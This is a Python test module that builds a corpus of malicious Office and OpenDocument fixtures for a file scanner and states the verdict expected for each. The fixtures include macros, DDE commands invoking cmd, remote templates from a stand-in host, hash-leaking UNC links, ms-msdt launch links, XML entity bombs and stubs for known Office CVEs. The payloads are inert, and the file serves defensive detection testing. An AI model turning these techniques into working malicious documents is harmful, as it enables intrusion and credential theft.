"""Nasty Office documents, old and new, and OpenDocument files."""

from functools import partial

from scanning.verdicts import Verdict
from tests.scanning.corpus.case import Case, cases
from tests.scanning.corpus.compounds import compound, doc, sheet, xls
from tests.scanning.corpus.office import odf, ooxml, related, relations

MISSED, SEEN = True, False
ELSEWHERE = "https://mau.example/a.dotm"
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">'
    '<!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://mau.example/a.dtd"><a/>'
VBA = (
    '<Override PartName="/word/x.bin" '
    'ContentType="application/vnd.ms-office.vbaProject"/>'
)
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
SPLIT_FIELD = (
    "<w:r><w:instrText> DD</w:instrText></w:r>"
    '<w:r><w:instrText>EAUTO c:\\\\a "b"</w:instrText></w:r>'
)
LISTENER = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'xlink:href="vnd.sun.star.script:a.py$b?language=Python"/></office:event-listeners>'
)
CLICK = '<a:hlinkClick xmlns:a="a" action="ppaction://program?a.exe"/>'
PICTURE = '<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>'
LINKED = (
    b"\1\0\0\2\1\0\0\0" + bytes(12) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
)
RELS = "word/_rels/document.xml.rels"
TRICKED = relations(("attachedTemplate", "&#104;ttps://mau.example/a", True))
OBJECT = compound({"\x01Ole10Native": b"a.exe"})


def with_macros() -> bytes:
    return ooxml("docx", {"word/vbaProject.bin": b"x"})


def nested(depth: int) -> bytes:
    content = ooxml("docx")
    for _ in range(depth - 1):
        content = ooxml("docx", {"word/embeddings/a.docx": content})
    return content


DOCUMENTS: list[Case] = [
    *cases(
        Verdict.ACTIVE_CONTENT,
        ("macro.docx", "Visual Basic", "macro", MISSED, with_macros),
        ("docm.docx", "a docm by its main type, renamed", "macro", MISSED,
         partial(ooxml, "docx", main=MACRO_MAIN)),
        ("macro-by-type.docx", "macros under an innocent name", "macro", MISSED,
         partial(ooxml, "docx", {"word/x.bin": b"x"}, kinds=VBA)),
        ("macro-by-relation.docx", "macros found by their relation alone", "macro",
         MISSED, partial(related, "vbaProject", "x.bin", outside=False)),
        ("macro-inside.docx", "macros in a document in the document", "macro", MISSED,
         lambda: ooxml("docx", {"word/embeddings/a.docx": with_macros()})),
        ("macro-sheet.xlsx", "Excel 4 macros in an ordinary folder", "macro", MISSED,
         partial(ooxml, "xlsx", {"xl/worksheets/sheet1.xml": "<xm:macrosheet/>"})),
        ("field.docx", "a DDE command in two pieces", "dde", MISSED,
         partial(ooxml, "docx", body=SPLIT_FIELD)),
        ("simple-field.docx", "a DDE command in one piece", "dde", MISSED,
         partial(ooxml, "docx", body='<w:fldSimple w:instr="DDE a b"/>')),
        ("fetched-text.docx", "a field that fetches text", "remote_content", MISSED,
         partial(ooxml, "docx",
                 body='<w:instrText>INCLUDETEXT "https://a.example"</w:instrText>')),
        ("dde.xlsx", "a DDE command in a workbook", "dde", MISSED,
         partial(ooxml, "xlsx", {"xl/externalLinks/externalLink1.xml":
                 '<externalLink><ddeLink ddeService="cmd"/></externalLink>'})),
        ("template.docx", "a template from the web", "remote_content", MISSED,
         partial(related, "attachedTemplate", ELSEWHERE)),
        ("template-share.docx", "a template from another machine", "remote_content",
         MISSED, partial(related, "attachedTemplate", "file:///\\\\10.0.0.1\\a.dotm")),
        ("template-spelled.docx", "its address spelled by codes", "remote_content",
         MISSED, partial(ooxml, "docx", {RELS: TRICKED})),
        ("template-utf16.docx", "the same in UTF-16", "remote_content", MISSED,
         lambda: ooxml("docx", {RELS: relations(("attachedTemplate", ELSEWHERE, True))
                       .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                       .encode("utf-16")})),
        ("frame.docx", "a frame from the web", "remote_content", MISSED,
         partial(related, "frame", ELSEWHERE)),
        ("linked-object.docx", "CVE-2022-30190: an object from the web",
         "remote_content", MISSED,
         partial(related, "oleObject", "mhtml:https://a.example/b!x-usc:c")),
        ("part-elsewhere.docx", "a part of the document elsewhere", "remote_content",
         MISSED, partial(related, "subDocument", "file:///C:/a.docx")),
        ("picture-share.docx", "a picture that sends the password's hash",
         "remote_content", MISSED, partial(related, "image", "\\\\10.0.0.1\\a.png")),
        ("link-program.docx", "a link that starts a program", "office_launch", MISSED,
         partial(related, "hyperlink", "ms-msdt:/id a")),
        ("click.pptx", "a slide that starts a program", "office_launch", MISSED,
         partial(ooxml, "pptx", {"ppt/slides/slide1.xml": CLICK})),
        ("control.docx", "an ActiveX control under another name", "embedded_object",
         MISSED, partial(related, "control", "x.xml", outside=False)),
        ("object.docx", "a packed program under another name", "embedded_object",
         MISSED, partial(ooxml, "docx", {"word/media/image1.dat": OBJECT})),
        ("program.docx", "a program as a picture", "embedded_object", MISSED,
         partial(ooxml, "docx", {"word/media/image1.png": b"MZ" + bytes(60)})),
        ("page.docx", "a web page as a part", "embedded_object macro", MISSED,
         partial(ooxml, "docx", {"word/a.dat": "<html><script>a()</script></html>"})),
        ("picture-script.docx", "script in a drawing", "macro", MISSED,
         partial(ooxml, "docx", {"word/media/image1.svg": PICTURE})),
        ("entities.docx", "definitions that swell", "xml_entities", MISSED,
         partial(ooxml, "docx", {"word/styles.xml": BOMB})),
        ("entities-utf16.docx", "the same in UTF-16", "xml_entities", MISSED,
         lambda: ooxml("docx", {"word/styles.xml": BOMB.replace(
             '"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")})),
        ("entities-outside.docx", "definitions from the web", "xml_entities", MISSED,
         partial(ooxml, "docx", {"word/styles.xml": OUTSIDE})),
        ("entities.odt", "definitions that swell", "xml_entities", MISSED,
         partial(odf, "text", {"styles.xml": BOMB})),
        ("macro.odt", "Basic", "macro", MISSED,
         partial(odf, "text", {"Basic/Standard/a.xml":
                 '<script:module script:language="StarBasic">a</script:module>'})),
        ("script.odt", "Python", "macro", MISSED,
         partial(odf, "text", {"Scripts/python/a.py": "a"})),
        ("listener.odt", "a listener that calls a script", "macro", MISSED,
         partial(odf, body=LISTENER)),
        ("link-macro.odt", "a link that calls a macro", "macro", MISSED,
         partial(odf, body='<text:a xlink:href="macro:///a.b.c()"/>')),
        ("dde.ods", "a DDE formula", "dde", MISSED,
         partial(odf, "spreadsheet",
                 body='<c table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/>')),
        ("section.odt", "a section from the web", "remote_content", MISSED,
         partial(odf, body='<text:section-source xlink:href="https://a.example"/>')),
        ("frame.odt", "a frame", "remote_content", MISSED,
         partial(odf, body='<draw:floating-frame xlink:href="https://a.example"/>')),
        ("execute.odt", "a click that starts a program", "office_launch", MISSED,
         partial(odf, body='<presentation:event-listener '
                           'presentation:action="execute" xlink:href="a.exe"/>')),
        ("command.odt", "CVE-2022-3140: a link that gives a command", "macro", MISSED,
         partial(odf, body='<text:a xlink:href="vnd.libreoffice.command:Open"/>')),
        ("chunk.docx", "a web page in pieces, for the program to put together",
         "embedded_object", MISSED,
         partial(related, "aFChunk", "a.mht", outside=False)),
        ("case.doc", "an object from the web, its name in capitals", "remote_content",
         MISSED, lambda: doc(**{"\x01OLE": LINKED})),
        ("macro.doc", "Visual Basic", "macro", MISSED, partial(doc, "Macros", "VBA")),
        ("package.doc", "a packed file", "embedded_object", MISSED,
         lambda: doc(**{"\x01Ole10Native": b"a.exe"})),
        ("equation.doc", "CVE-2017-11882: the equation editor", "embedded_object",
         MISSED, lambda: doc(**{"Equation Native": b"a"})),
        ("dde.doc", "a DDE command", "dde", MISSED,
         partial(doc, text=b"\x13 DDEAUTO c:\\a b\x14x\x15")),
        ("link.doc", "CVE-2017-0199: an object from the web", "remote_content", MISSED,
         lambda: doc(**{"\x01Ole": LINKED})),
        ("macro.xls", "a sheet of Excel 4 macros", "macro", MISSED,
         lambda: xls(sheet(0), sheet(1, b"Macro1"))),
        ("dde.xls", "a DDE command", "dde", MISSED,
         lambda: xls((0x01AE, b"\1\0\5\0\0cmd\x03a"))),
        ("large.xls", "macros named beyond the first 7 MB", "macro", MISSED,
         lambda: xls(filler=bytes(8_000_000), _VBA_PROJECT=b"")),
    ),
    *cases(
        Verdict.UNSCANNABLE,
        ("password.docx", "encrypted: an OLE file round it", "encrypted", MISSED,
         partial(compound, {"EncryptedPackage": b"a", "EncryptionInfo": b"\4\0\4\0"})),
        ("password.xlsx", "encrypted: nobody knows what it is", "encrypted", MISSED,
         partial(compound, {"EncryptedPackage": b"a", "EncryptionInfo": b"\4\0\4\0"})),
        ("deep.docx", "four documents in one another", "archive_too_deep", MISSED,
         partial(nested, 4)),
        ("password.odt", "encrypted", "encrypted", MISSED,
         partial(odf, manifest='<manifest:encryption-data/>')),
        ("password-utf16.odt", "encrypted, said in UTF-16", "encrypted", MISSED,
         lambda: odf("text", {"META-INF/manifest.xml":
                     '<?xml version="1.0"?><a><encryption-data/></a>'
                     .encode("utf-16")})),
        ("password.xls", "encrypted", "encrypted", MISSED,
         lambda: xls((0x002F, b"\1\0\1\0"))),
        ("password.doc", "encrypted", "encrypted", MISSED, partial(doc, flags=0x0100)),
        ("letters.docx", "a template from the web, in letters of old mainframes",
         "damaged", MISSED,
         lambda: ooxml("docx", {RELS: relations(("attachedTemplate", ELSEWHERE, True))
                       .replace("UTF-8", "cp037").encode("cp037")})),
        ("broken-part.docx", "a part that is no XML", "damaged", MISSED,
         partial(ooxml, "docx", {"word/styles.xml": "<a><b></a>"})),
        ("same-part.docx", "two parts that differ by case", "damaged", MISSED,
         partial(ooxml, "docx", {"word/A.xml": "<a/>", "word/a.xml": "<b/>"})),
    ),
    *cases(
        Verdict.REFUSED_TYPE,
        ("circle.doc", "a directory that runs in a circle", "type_lies", MISSED,
         partial(compound, {"WordDocument": b""}, circle=True)),
    ),
]  # fmt: skip
